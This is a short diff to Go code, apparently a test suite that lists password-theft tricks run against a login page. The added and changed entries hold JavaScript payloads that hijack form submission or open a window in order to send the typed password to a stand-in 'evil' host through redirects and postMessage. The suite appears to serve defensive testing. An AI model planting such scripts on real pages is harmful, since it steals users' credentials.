@@ -187,8 +187,9 @@ func (p *Portal) readers() (out []trick) {
 		out = append(out, trick{name: name, gets: Once, says: "signed_in", html: p.with(script)})
 	}
 	return append(out,
+		trick{name: "navigate", gets: Once, says: "signed_in|more_steps", html: p.with(`document.forms[0].onsubmit = async e => { e.preventDefault(); steal(p.value); await fetch(e.target.action, {method: 'POST', body: new URLSearchParams(new FormData(e.target))}); location = evil + '/go?' + encodeURIComponent(p.value) }`)},
 		// Which of the two navigations comes first is the browser's to say.
-		trick{name: "navigate", gets: Perhaps, says: "signed_in|more_steps", html: p.with(`document.forms[0].onsubmit = () => { steal(p.value); setTimeout(() => location = evil + '/go?' + encodeURIComponent(p.value), 300) }`)},
+		trick{name: "navigate-meanwhile", gets: Perhaps, html: p.with(`document.forms[0].onsubmit = () => { steal(p.value); setTimeout(() => location = evil + '/go?' + encodeURIComponent(p.value), 300) }`)},
 		// The window that it opens comes to the front.
 		trick{name: "opener", gets: Perhaps, html: p.with(`const w = open(evil + '/opener'); p.oninput = () => { try { w.postMessage(p.value, '*') } catch {} ; name = p.value }`)},
 	)
